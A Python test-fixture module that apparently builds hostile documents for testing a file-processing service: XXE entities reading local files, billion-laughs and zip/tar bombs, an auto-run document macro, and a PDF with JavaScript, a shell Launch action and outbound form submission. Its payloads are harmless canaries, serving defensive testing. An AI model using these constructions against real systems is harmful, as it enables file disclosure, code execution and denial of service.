"""Documents of our own making that try what documents have tried."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterable, Mapping

import pikepdf

MIB = 1 << 20
CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
    'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    f'xmlns:r="{RELATION}" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)


def zipped(members: Mapping[str, bytes | str] | Iterable[tuple[str, bytes | str]]) -> bytes:
    file = io.BytesIO()
    pairs = members.items() if isinstance(members, Mapping) else members
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in pairs:
            archive.writestr(name, content)
    return file.getvalue()


def docx(body: str, extra: Mapping[str, bytes | str] | None = None, prologue: str = "") -> bytes:
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?>{prologue}<w:document {WORD}><w:body>{body}'
        "</w:body></w:document>"
    )
    parts = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": RELATIONS}
    return zipped({**parts, "word/document.xml": document, **(extra or {})})


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx_that_fetches(address: str) -> bytes:
    """An image and a template that lie elsewhere."""
    picture = (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="990000" cy="990000"/><wp:docPr id="1" '
        'name="x"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/'
        'picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:link="rId9"/></pic:blipFill><pic:spPr/></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    relations = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="rId9" Type="{RELATION}/image" TargetMode="External" '
        f'Target="{address}/pixel.png"/><Relationship Id="rId8" Type="{RELATION}/attachedTemplate" '
        f'TargetMode="External" Target="{address}/template.dotm"/></Relationships>'
    )
    body = paragraph("Plain words.") + picture
    return docx(body, {"word/_rels/document.xml.rels": relations})


def docx_with_entities() -> bytes:
    """A billion laughs."""
    entities = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(12)
    )
    return docx(paragraph("&l11;"), prologue=f"<!DOCTYPE w [{entities}]>")


def odt_with_entities(path: str) -> bytes:
    """It wants a file of the machine's in its text."""
    content = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY leak SYSTEM "file://{path}">]>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3">'
        "<office:body><office:text><text:p>Before &leak; after.</text:p></office:text>"
        "</office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:'
        'xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type='
        '"application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path='
        '"content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    return zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": content,
            "META-INF/manifest.xml": manifest,
        }
    )


def fodt_with_macro(touched: str) -> bytes:
    """A Basic macro that runs when the document is opened, and writes a file."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?><office:document '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        'xmlns:ooo="http://openoffice.org/2004/office" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">'
        '<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries '
        'xmlns:ooo="http://openoffice.org/2004/office"><ooo:library-embedded ooo:name="Standard">'
        '<ooo:module ooo:name="M"><ooo:source-code>Sub Main\n'
        f'Open "{touched}" For Output As #1\nPrint #1, "ran"\nClose #1\n'
        'ThisComponent.Text.String = "MACRO RAN"\nEnd Sub\n'
        "</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script>"
        '<office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?'
        'language=Basic&amp;location=document"/></office:event-listeners></office:scripts>'
        "<office:body><office:text><text:p>Plain words.</text:p></office:text></office:body>"
        "</office:document>"
    ).encode()


def pdf(pages: int = 1, size: tuple[float, float] = (595, 842)) -> pikepdf.Pdf:
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page().MediaBox = pikepdf.Array([0, 0, *size])
    return made


def saved(document: pikepdf.Pdf, encryption: pikepdf.Encryption | None = None) -> bytes:
    file = io.BytesIO()
    document.save(file, encryption=encryption or False)
    return file.getvalue()


def pdf_of_many_pages(count: int) -> bytes:
    numbers = range(3, 3 + count)
    kids = " ".join(f"{number} 0 R" for number in numbers)
    pages = "".join(
        f"{number} 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\n"
        for number in numbers
    )
    return (
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        f"2 0 obj<</Type/Pages/Count {count}/Kids[{kids}]>>endobj\n{pages}trailer<</Root 1 0 R>>\n"
    ).encode()


def pdf_that_acts(address: str, path: str) -> bytes:
    """JavaScript, a program to launch, a form to send, a file within, an image from elsewhere."""
    document = pdf()
    name, text = pikepdf.Name, pikepdf.String
    script = f"app.launchURL('{address}/js', true); this.submitForm('{address}/form');"
    document.Root.OpenAction = pikepdf.Dictionary(S=name.JavaScript, JS=text(script))
    launch = pikepdf.Dictionary(S=name.Launch, F=text("/bin/sh"), P=text(f"-c 'touch {path}'"))
    document.pages[0].AA = pikepdf.Dictionary(
        O=launch, C=pikepdf.Dictionary(S=name.URI, URI=text(f"{address}/uri"))
    )
    document.attachments["evil.sh"] = f"#!/bin/sh\ntouch {path}\n".encode()
    elsewhere = pikepdf.Stream(document, b"")
    elsewhere.Type, elsewhere.Subtype = name.XObject, name.Image
    elsewhere.Width = elsewhere.Height = 1
    elsewhere.ColorSpace, elsewhere.BitsPerComponent = name.DeviceRGB, 8
    elsewhere.F = pikepdf.Dictionary(Type=name.Filespec, FS=name.URL, F=text(f"{address}/x.png"))
    document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=elsewhere))
    document.pages[0].Contents = pikepdf.Stream(document, b"/X Do")
    return saved(document)


def png(width: int, height: int, rows: bytes = b"") -> bytes:
    """An image that says it has this size, whatever it holds."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        whole = kind + data
        return struct.pack(">I", len(data)) + whole + struct.pack(">I", zlib.crc32(whole))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def svg_with_entities(address: str, path: str) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY leak SYSTEM "file://{path}">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="90" height="90"><image xlink:href="{address}/x.png" width="9" height="9"/>'
        "<text>&leak;</text></svg>"
    ).encode()


def flat_bomb(size: int) -> bytes:
    return zipped({"bomb.txt": bytes(size)})


def nested_bomb(depth: int) -> bytes:
    inner = zipped({"bomb.txt": bytes(32 * MIB)})
    for _ in range(depth):
        inner = zipped([(f"{n}.zip", inner) for n in range(8)])
    return inner


def tar_of(*members: tuple[str, bytes, str]) -> bytes:
    """Members as name, type and target of a link."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, type_, target in members:
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = type_, target
            entry.devmajor, entry.devminor = 8, 0
            content = b"content" if type_ == tarfile.REGTYPE else b""
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return file.getvalue()


def tar_of_a_million() -> bytes:
    """A million empty members, in two megabytes."""
    entry = tarfile.TarInfo("x").tobuf(tarfile.USTAR_FORMAT)
    return gzip.compress(entry * 1_000_000, compresslevel=1)


def nested_mail(depth: int) -> bytes:
    boundaries = [f"b{n}" for n in range(depth)]
    lines = ["From: a@example.org", "Subject: deep", "MIME-Version: 1.0"]
    for boundary in boundaries:
        lines += [f"Content-Type: multipart/mixed; boundary={boundary}", "", f"--{boundary}"]
    lines += ["Content-Type: text/plain", "", "At the bottom."]
    lines += [f"--{boundary}--" for boundary in reversed(boundaries)]
    return "\r\n".join(lines).encode()
